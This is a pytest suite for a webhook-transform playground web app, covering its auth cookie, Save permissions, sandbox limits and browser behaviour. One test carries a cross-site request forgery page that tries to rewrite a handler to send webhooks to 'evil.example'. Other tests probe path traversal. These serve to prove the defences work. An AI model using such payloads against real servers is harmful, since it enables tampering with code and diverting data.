"""The playground: its HTTP surface, then the page in real headless Chromium.

The page must show what `dodo-transform test` prints (the same records); a syntax error marks
its line in the editor; Run on all samples gives a table whose rows open; Save writes back
only when allowed. Screenshots go to build/screenshots/playground-*.png.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from browser import browser, screenshot  # noqa: F401  (the fixture)
from helpers_servers import HTTP, spinning_child

from dodo_transform import samples
from dodo_transform.sandbox import Job, RawRun, Sandbox
from dodo_transform.serving import ServerThread
from dodo_transform.workbench.playground import create_app, token_auth

ROOT = Path(__file__).resolve().parent.parent
CANCELLED = ROOT / "handlers" / "mailerlite" / "subscription_cancelled.js"
TOKEN = "test-token-0123456789"


def serve(handlers=None, allow_save=False) -> ServerThread:
    app = create_app(token_auth(TOKEN), handlers=handlers or {}, allow_save=allow_save)
    return ServerThread(app, lifespan=False)


def cli_json(handler: Path, *args: str) -> list[dict]:
    r = subprocess.run(
        [sys.executable, "-m", "dodo_transform", "test", str(handler), "--json", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode in (0, 1), r.stderr
    return [json.loads(line) for line in r.stdout.splitlines()]


# -- HTTP ------------------------------------------------------------------------------------


def test_the_token_is_traded_for_a_cookie_and_everything_else_is_refused(tmp_path):
    with serve() as s:
        assert HTTP.get(f"{s.url}/").status_code == 401
        assert HTTP.get(f"{s.url}/?token=wrong").status_code == 401
        assert HTTP.post(f"{s.url}/api/test", json={"code": "x" * 20}).status_code == 401
        first = HTTP.get(f"{s.url}/?token={TOKEN}&x=1")
        assert first.status_code == 303 and first.headers["location"] == "/?x=1"
        assert "HttpOnly" in first.headers["set-cookie"]
        assert "SameSite=strict" in first.headers["set-cookie"]
        with httpx.Client(base_url=s.url, cookies=first.cookies) as c:
            page = c.get("/")
            assert page.status_code == 200 and "playground" in page.text
            assert "script-src 'self'" in page.headers["content-security-policy"]
            assert c.get("/static/editor.js").status_code == 200
            assert c.get("/static/../app.py").status_code == 404
            session = c.get("/api/session").json()
            assert [x["name"] for x in session["samples"]] == samples.names()
            assert session["can_save"] is False


def test_save_is_refused_unless_allowed_and_writes_the_file_whole_when_it_is(tmp_path):
    handler = tmp_path / "h.js"
    handler.write_text("function handler(w) { return w; }")
    auth = {"Authorization": f"Bearer {TOKEN}"}
    new = "function handler(w) { w.cancel = true; return w; }"
    with serve({"h.js": handler}) as s:
        r = HTTP.post(f"{s.url}/api/save", json={"name": "h.js", "code": new}, headers=auth)
        assert r.status_code == 403 and "allow_handler_edit" in r.json()["error"]
    assert handler.read_text() == "function handler(w) { return w; }"
    with serve({"h.js": handler}, allow_save=True) as s:
        r = HTTP.post(f"{s.url}/api/save", json={"name": "h.js", "code": new}, headers=auth)
        assert r.status_code == 200, r.text
        assert handler.read_text() == new
        r = HTTP.post(f"{s.url}/api/save", json={"name": "../x.js", "code": new}, headers=auth)
        assert r.status_code == 404
    assert sorted(p.name for p in tmp_path.iterdir()) == ["h.js"]  # no temporary file left


def test_no_page_and_a_wrong_method_answer_json(tmp_path):
    with serve() as s:
        r = HTTP.get(f"{s.url}/nope")
        assert r.status_code == 404 and r.json() == {"error": "GET /nope: Not Found"}
        r = HTTP.get(f"{s.url}/api/save")
        assert r.status_code == 405 and r.json()["error"] == "GET /api/save: Method Not Allowed"


def test_save_keeps_the_files_permissions_and_its_crlf_line_ends(tmp_path):
    handler = tmp_path / "h.js"
    handler.write_bytes(b"function handler(w) {\r\n  return w;\r\n}\r\n")
    handler.chmod(0o600)
    auth = {"Authorization": f"Bearer {TOKEN}"}
    edited = "function handler(w) {\n  w.cancel = true;\n  return w;\n}\n"  # as the editor sends it
    with serve({"h.js": handler}, allow_save=True) as s:
        r = HTTP.post(f"{s.url}/api/save", json={"name": "h.js", "code": edited}, headers=auth)
        assert r.status_code == 200, r.text
        expected = edited.replace("\n", "\r\n").encode()
        assert handler.read_bytes() == expected
        assert r.json()["bytes"] == len(expected)
        assert handler.stat().st_mode & 0o777 == 0o600
        # A file with LF line ends, or mixed ones, is written as sent.
        handler.write_bytes(b"// a\r\n// b\n")
        r = HTTP.post(f"{s.url}/api/save", json={"name": "h.js", "code": edited}, headers=auth)
        assert handler.read_bytes() == edited.encode()


def test_the_cli_prints_a_tokened_url_and_one_line_errors(tmp_path):
    r = subprocess.run(
        [sys.executable, "-m", "dodo_transform", "playground", str(tmp_path / "nope.js")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 2
    assert r.stderr == f"dodo-transform: {tmp_path / 'nope.js'}: no such file\n"


# -- in the browser --------------------------------------------------------------------------


@contextlib.contextmanager
def playground_process(*args: str) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """`dodo-transform playground ARGS` as a user starts it: the process, its tokened URL."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "dodo_transform", "playground", *args, "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    assert proc.stdout is not None
    try:
        line = proc.stdout.readline()
        m = re.match(r"dodo-transform: playground at (http://127\.0\.0\.1:\d+/\?token=\S+)$", line)
        assert m, line + (proc.stderr.read() if proc.poll() is not None else "")  # type: ignore[union-attr]
        yield proc, m.group(1)
    finally:
        proc.terminate()
        proc.wait(timeout=30)


@pytest.fixture
def playground_cli(tmp_path) -> Iterator[tuple[str, Path]]:
    """`dodo-transform playground HANDLER.js` as a user starts it: (URL with token, file)."""
    handler = tmp_path / "subscription_cancelled.js"
    handler.write_text(CANCELLED.read_text())
    with playground_process(str(handler)) as (_proc, url):
        yield url, handler


SPINS = "function handler(w) { for (;;) {} }"  # to its 1 s limit on each of the samples


def test_ctrl_c_during_a_run_on_all_samples_stops_the_playground_at_once():
    """uvicorn waits for the requests under way: the batch's runs end now, answered 503,
    not after a second of CPU on each sample left."""
    with playground_process() as (proc, url):
        first = HTTP.get(url)
        answers: list[httpx.Response] = []
        with httpx.Client(base_url=url.split("/?")[0], cookies=first.cookies, timeout=120) as c:
            batch = threading.Thread(
                target=lambda: answers.append(c.post("/api/test", json={"code": SPINS}))
            )
            batch.start()
            spinning_child(proc, cpu=1.5)  # the batch's runs under way
            proc.send_signal(signal.SIGINT)
            batch.join(timeout=60)
        assert proc.wait(timeout=30) is not None  # a batch's 50 samples would take 50 s
        (answer,) = answers
        assert answer.status_code == 503
        assert "dodo-transform is stopping" in answer.json()["error"]


class CountingSandbox(Sandbox):
    def __init__(self) -> None:
        super().__init__(thread=True)
        self.runs = 0

    def run(self, job: Job) -> RawRun:
        self.runs += 1
        return super().run(job)


def test_a_run_on_all_samples_ends_when_its_client_goes():
    sandbox = CountingSandbox()
    app = create_app(token_auth(TOKEN), handlers={}, allow_save=False, sandbox=lambda: sandbox)
    try:
        # On leaving, the server waits for the requests under way: the batch included.
        with ServerThread(app, lifespan=False, grace=120) as s:
            first = HTTP.get(f"{s.url}/?token={TOKEN}")
            with httpx.Client(base_url=s.url, cookies=first.cookies, timeout=2.5) as c:
                with pytest.raises(httpx.ReadTimeout):  # a user who closed the tab
                    c.post("/api/test", json={"code": SPINS})
            c = httpx.Client(base_url=s.url, cookies=first.cookies, timeout=120)
            with c:  # answered once the run under way at the disconnect has ended
                after = c.post("/api/test", json={"code": SPINS, "event": "refund.succeeded"})
            assert after.status_code == 200
        batch = sandbox.runs - 1
        assert batch < len(samples.names()) // 2, f"{batch} runs for a client that had gone"
    finally:
        sandbox.close()


def test_code_that_sits_in_a_built_in_past_its_limit_is_stopped_and_the_next_run_works(
    playground_cli,
):
    url, _handler = playground_cli
    first = HTTP.get(url)
    with httpx.Client(base_url=url.split("/?")[0], cookies=first.cookies, timeout=60) as c:

        def run(code: str) -> dict:
            r = c.post("/api/test", json={"code": code, "event": "refund.succeeded"})
            assert r.status_code == 200, r.text
            (record,) = r.json()["results"]
            return record

        endless = "function handler(w) { Array.prototype.join.call({length: 2**53 - 1}, ''); }"
        assert run(endless)["error"]["kind"] == "time_limit"
        assert run("function handler(w) { return w; }")["status"] == "ok"


def open_page(browser, url: str):  # noqa: F811
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.goto(url)
    page.wait_for_selector("body[data-ready=true]")
    return page


def pick(page, event_type: str) -> None:
    page.fill("#sample-search", event_type)
    page.select_option("#sample", event_type)


def test_run_a_sample_and_read_the_body_the_cli_prints(browser, playground_cli):  # noqa: F811
    url, handler = playground_cli
    page = open_page(browser, url)
    try:
        assert "?token=" not in page.url  # traded for a cookie
        assert page.inner_text("#handler-name") == str(handler)
        pick(page, "subscription.cancelled")
        page.click("#run")
        page.wait_for_selector("#result:not([hidden])")
        (expected,) = cli_json(handler, "--event", "subscription.cancelled")
        body = json.dumps(json.loads(expected["request"]["body"]), indent=2, ensure_ascii=False)
        assert page.inner_text("#body") == body
        assert page.inner_text("#decision") == "SEND"
        assert page.inner_text("#request-line") == f"PUT {expected['request']['url']}"
        # The record the page shows is the CLI's `--json` line, byte for byte but the timing.
        cli_line = subprocess.run(
            [sys.executable, "-m", "dodo_transform", "test", str(handler), "--json"]
            + ["--event", "subscription.cancelled"],
            capture_output=True,
            text=True,
            timeout=120,
        ).stdout.strip()
        timing = re.compile(r'"duration_ms": [0-9.e-]+')
        shown = page.text_content("#record") or ""
        assert timing.sub("T", shown) == timing.sub("T", cli_line)
        assert "put_replaces_groups" in page.inner_text("#warnings")
        assert page.locator("#diff .add").count() > 0  # the payload before → after
        screenshot(page, "playground-run-subscription-cancelled")
    finally:
        page.close()


def test_a_syntax_error_marks_its_line_in_the_editor(browser, playground_cli):  # noqa: F811
    url, _handler = playground_cli
    page = open_page(browser, url)
    try:
        lines = page.locator(".cm-content .cm-line")
        target = lines.nth(2)  # line 3
        target.click()
        page.keyboard.press("End")
        page.keyboard.type(" = = ;")
        page.click("#run")
        page.wait_for_selector("#error:not([hidden])")
        assert page.inner_text("#decision") == "ERROR"
        assert page.inner_text("#error-text").startswith("syntax_error at line 3, column")
        page.wait_for_selector(".cm-lintRange-error")
        marked = page.evaluate(
            """() => {
                const all = [...document.querySelectorAll('.cm-content .cm-line')];
                return all.findIndex((l) => l.querySelector('.cm-lintRange-error')) + 1;
            }"""
        )
        assert marked == 3
        assert page.locator(".cm-lint-marker-error").count() == 1  # in the gutter
        screenshot(page, "playground-syntax-error")
    finally:
        page.close()


def test_a_refused_run_does_not_leave_the_last_result_shown(browser, playground_cli):  # noqa: F811
    url, _handler = playground_cli
    page = open_page(browser, url)
    try:
        page.click("#run")
        page.wait_for_selector("#result:not([hidden])")
        page.locator(".cm-content .cm-line").first.click()
        page.keyboard.press("Home")
        page.keyboard.insert_text("//" + "x" * 52_000 + "\n")  # over the 51,200 characters
        page.click("#run")
        page.wait_for_selector("#message:not([hidden])")
        assert "51,200" in page.inner_text("#message")
        assert page.is_hidden("#result")
    finally:
        page.close()


def test_run_on_all_samples_then_open_one_row(browser, playground_cli):  # noqa: F811
    url, handler = playground_cli
    page = open_page(browser, url)
    try:
        page.click("#run-all")
        page.wait_for_selector("#all:not([hidden])")
        rows = page.locator("#all-table tbody tr")
        assert rows.count() == len(samples.names())
        assert (
            page.text_content("#all-summary") == "50 payload(s): 50 send, 0 cancelled, 0 error(s)"
        )
        screenshot(page, "playground-all-samples")
        page.click("#all-table tbody tr[data-sample='subscription.cancelled']")
        page.wait_for_selector("#result:not([hidden])")
        assert "subscription.cancelled" in page.inner_text("#event-type")
        records = {r["payload_file"]: r for r in cli_json(handler)}
        body = records["subscription.cancelled"]["request"]["body"]
        assert page.inner_text("#body") == json.dumps(json.loads(body), indent=2)
        screenshot(page, "playground-all-samples-row")
    finally:
        page.close()


def test_save_writes_the_file_opened_on_the_command_line(browser, playground_cli):  # noqa: F811
    url, handler = playground_cli
    page = open_page(browser, url)
    try:
        assert page.is_visible("#save")
        page.locator(".cm-content .cm-line").first.click()
        page.keyboard.press("Home")
        page.keyboard.type("// edited in the playground\n")
        page.click("#save")
        page.wait_for_selector("#save-state:has-text('saved')")
        assert handler.read_text().startswith("// edited in the playground\nfunction handler")
    finally:
        page.close()


def test_save_is_refused_unless_allowed(browser, tmp_path):  # noqa: F811
    handler = tmp_path / "h.js"
    handler.write_text(CANCELLED.read_text())
    with serve({"endpoint mailerlite": handler}, allow_save=False) as s:
        page = open_page(browser, f"{s.url}/?token={TOKEN}")
        try:
            assert not page.is_visible("#save")
            assert page.is_visible("#download")
            assert "allow_handler_edit" in page.get_attribute("#download", "title")
            with page.expect_download() as got:
                page.click("#download")
            assert Path(got.value.path()).read_text() == CANCELLED.read_text()
            # Even asked directly, the server refuses.
            status = page.evaluate(
                """async () => (await fetch('api/save', {method: 'POST',
                    headers: {'Content-Type': 'application/json'},
                    body: JSON.stringify({name: 'endpoint mailerlite', code: 'x'})})).status"""
            )
            assert status == 403
            assert handler.read_text() == CANCELLED.read_text()
            screenshot(page, "playground-save-refused")
        finally:
            page.close()


def test_a_page_of_another_origin_on_the_same_site_cannot_save(browser, tmp_path):  # noqa: F811
    """SameSite=Strict lets another port of the same host send the cookie; what such a page
    can send without a CORS preflight (text/plain, a form) is refused."""
    from starlette.applications import Starlette
    from starlette.responses import HTMLResponse
    from starlette.routing import Route

    handler = tmp_path / "h.js"
    handler.write_text(CANCELLED.read_text())
    with serve({"h.js": handler}, allow_save=True) as s:
        attack = f"""<script>
          const body = JSON.stringify({{name: "h.js", code: "function handler(w) {{ w.url = 'https://evil.example/'; return w; }}"}});
          Promise.allSettled([
            fetch("{s.url}/api/save", {{method: "POST", mode: "no-cors", credentials: "include",
                                        headers: {{"Content-Type": "text/plain"}}, body}}),
            fetch("{s.url}/api/save", {{method: "POST", mode: "no-cors", credentials: "include",
                                        body: new URLSearchParams({{json: body}})}}),
          ]).then(() => {{ document.title = "sent"; }});
        </script>"""

        async def evil(_request):
            return HTMLResponse(attack)

        with ServerThread(Starlette(routes=[Route("/", evil)]), lifespan=False) as other:
            page = open_page(browser, f"{s.url}/?token={TOKEN}")  # signed in: the cookie is set
            try:
                page.goto(f"{other.url}/")
                page.wait_for_function("document.title === 'sent'")
            finally:
                page.close()
        assert handler.read_text() == CANCELLED.read_text()
        auth = {"Authorization": f"Bearer {TOKEN}"}
        r = HTTP.post(f"{s.url}/api/save", content=b'{"name": "h.js", "code": "x"}', headers=auth)
        assert r.status_code == 415 and "application/json" in r.json()["error"]
        r = HTTP.post(
            f"{s.url}/api/save",
            json={"name": "h.js", "code": "x" * 20},
            headers={**auth, "Sec-Fetch-Site": "same-site"},
        )
        assert r.status_code == 403 and "another site" in r.json()["error"]
        assert handler.read_text() == CANCELLED.read_text()


def test_a_host_mounts_it_under_a_prefix_behind_its_own_check(browser, tmp_path):  # noqa: F811
    """As the operator console does at /ui/playground: its own auth, the endpoints' handlers,
    Save as `[ui] allow_handler_edit` says."""
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Mount

    from dodo_transform.relay.config import load_config

    (tmp_path / "h.js").write_text(CANCELLED.read_text())
    config_path = tmp_path / "c.toml"
    config_path.write_text(
        '[ui]\nallow_handler_edit = true\n\n[[endpoints]]\nname = "ml"\nsecrets = ["whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"]\n'
        'handler = "h.js"\nurl = "https://connect.mailerlite.com/api/subscribers"\n'
    )
    config = load_config(config_path, environ={})
    assert config.ui.allow_handler_edit is True

    async def console_session(request):
        ok = request.cookies.get("console") == "yes"
        return None if ok else JSONResponse({"error": "sign in"}, status_code=401)

    playground = create_app(
        console_session,
        handlers={name: ep.handler_path for name, ep in config.endpoints.items()},
        allow_save=config.ui.allow_handler_edit,
    )
    host = Starlette(routes=[Mount("/ui/playground", playground)])
    with ServerThread(host, lifespan=False) as s:
        assert HTTP.get(f"{s.url}/ui/playground/").status_code == 401
        context = browser.new_context()
        context.add_cookies([{"name": "console", "value": "yes", "url": s.url}])
        page = context.new_page()
        try:
            page.goto(f"{s.url}/ui/playground")  # redirected to the trailing slash
            page.wait_for_selector("body[data-ready=true]")
            assert page.url == f"{s.url}/ui/playground/"
            assert page.inner_text("#handler-name") == "ml"
            pick(page, "subscription.cancelled")
            page.click("#run")
            page.wait_for_selector("#result:not([hidden])")
            assert page.inner_text("#decision") == "SEND"
            assert page.is_visible("#save")
        finally:
            context.close()


def test_an_unknown_ui_key_is_a_config_error(tmp_path):
    from dodo_transform.relay.config import ConfigError, load_config

    path = tmp_path / "c.toml"
    path.write_text("[ui]\nallow_handler_edits = true\n")
    with pytest.raises(ConfigError) as e:
        load_config(path, environ={})
    assert "ui.allow_handler_edits" in str(e.value)


def test_an_edited_envelope_with_url_env_and_now(browser):  # noqa: F811
    code = (
        "function handler(webhook) {\n"
        "  webhook.url = webhook.url + '/' + webhook.env.LIST;\n"
        "  webhook.payload = {at: new Date().toISOString(), type: webhook.eventType};\n"
        "  return webhook;\n}\n"
    )
    with serve() as s:
        page = open_page(browser, f"{s.url}/?token={TOKEN}")
        try:
            assert page.inner_text("#handler-name") == "(new handler)"
            assert not page.is_visible("#save")  # nothing to save to: Download only
            page.locator(".cm-content").click()
            page.keyboard.press("Control+A")
            page.keyboard.press("Delete")
            page.keyboard.insert_text(code)
            envelope = samples.get("payment.succeeded").payload | {"type": "payment.succeded"}
            page.fill("#envelope", json.dumps(envelope))
            page.fill("#url", "https://example.com/hook")
            page.fill("#env", "LIST=7")
            page.fill("#now", "2025-08-04T05:30:45Z")
            page.click("#run")
            page.wait_for_selector("#result:not([hidden])")
            assert page.inner_text("#request-line") == "POST https://example.com/hook/7"
            assert json.loads(page.inner_text("#body")) == {
                "at": "2025-08-04T05:30:45.000Z",
                "type": "payment.succeded",
            }
            assert "[unknown_event_type] type" in page.inner_text("#warnings")
            assert 'did you mean "payment.succeeded"?' in page.inner_text("#warnings")
            record = json.loads(page.text_content("#record") or "")
            assert record["payload_file"] is None
            screenshot(page, "playground-own-envelope")
        finally:
            page.close()
